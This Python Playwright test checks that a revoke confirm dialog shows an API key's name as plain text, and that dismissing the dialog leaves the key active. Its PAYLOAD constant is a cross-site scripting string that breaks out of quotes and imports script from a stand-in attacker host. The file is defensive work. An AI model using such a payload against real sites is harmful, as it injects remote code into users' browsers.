"""Confirmations without inline script: the text of a confirm dialog is data shown as text,
never code, whatever an admin names a key; dismissing it changes nothing."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from audit.services import Actor
from conftest import PASSWORD
from orgs.api_keys import api_key_create
from orgs.models import ApiKey

from .conftest import sign_in

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
PAYLOAD = "'+import('//attacker.example/x.js')+'\"); alert(1); //"


def test_a_key_named_like_javascript_is_shown_as_text_and_dismissing_keeps_it(page, org_a):
    key, _ = api_key_create(org=org_a.org, name=PAYLOAD, scopes=["manage"], actor=Actor.member(org_a.admin))
    org_a.owner.set_password(PASSWORD)
    org_a.owner.save()
    sign_in(page, org_a.owner.email, PASSWORD)
    page.goto(f"/o/{org_a.org.id}/settings/api-keys/")
    seen: list[str] = []

    def dismiss(dialog):
        seen.append(dialog.message)
        dialog.dismiss()

    page.once("dialog", dismiss)
    page.locator(f"#key-{key.id}").get_by_role("button", name="Revoke").click()
    page.wait_for_timeout(300)
    assert seen == [f"Revoke {PAYLOAD}? Calls with it fail at once."]
    assert ApiKey.objects.get(pk=key.pk).is_active  # dismissed: nothing sent
    page.once("dialog", lambda dialog: dialog.accept())
    page.locator(f"#key-{key.id}").get_by_role("button", name="Revoke").click()
    expect(page.locator(f"#key-{key.id}").get_by_text("revoked")).to_be_visible()
    assert not ApiKey.objects.get(pk=key.pk).is_active
